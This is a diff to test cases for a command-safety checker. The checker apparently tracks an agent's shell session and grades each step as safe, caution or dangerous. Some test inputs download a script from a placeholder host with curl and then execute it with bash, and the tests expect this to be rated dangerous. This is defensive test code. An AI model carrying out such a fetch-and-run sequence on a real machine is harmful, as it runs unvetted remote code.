@@ -6,7 +6,11 @@ const context = { workspace: '/w', cwd: '/w', home: '/home/me', storeDir: '/data
 const run = (command: string): SimpleAction => ({ kind: 'run-command', command });
 const write = (path: string, content: string): SimpleAction => ({ kind: 'write-file', path, content });
 const asAction = (step: string | Action): Action => (typeof step === 'string' ? run(step) : step);
-const verdicts = (...steps: (string | Action)[]) => judgeInTurn(steps.map(asAction), context);
+const verdicts = (...steps: (string | Action)[]) =>
+  judgeInTurn(
+    steps.map((step) => ({ action: asAction(step) })),
+    context,
+  );
 /** The level of the last of these steps. */
 const last = (...steps: (string | Action)[]) => verdicts(...steps).at(-1)?.level;
 
@@ -113,6 +117,13 @@ test('a session is followed: what PATH and other variables make of later steps',
   expect(last('export APP=1', 'ls')).toBe('safe');
   expect(last('cd sub', 'curl -o x.sh https://e.example', 'cd ..', 'bash sub/x.sh')).toBe('dangerous');
   expect(last('cd sub', 'curl -o x.sh https://e.example', 'cd ..', 'bash other/x.sh')).toBe('caution');
+});
+
+test('a step may have a folder of its own, and leaves the session where it was', () => {
+  const fetched = { action: run('curl -o x.sh https://e.example'), cwd: 'tools' };
+  const level = (command: string) => judgeInTurn([fetched, { action: run(command) }], context)[1]?.level;
+  expect(level('bash tools/x.sh')).toBe('dangerous');
+  expect(level('bash x.sh')).toBe('caution');
 });
 
 test('loops write what is not wholly known', () => {
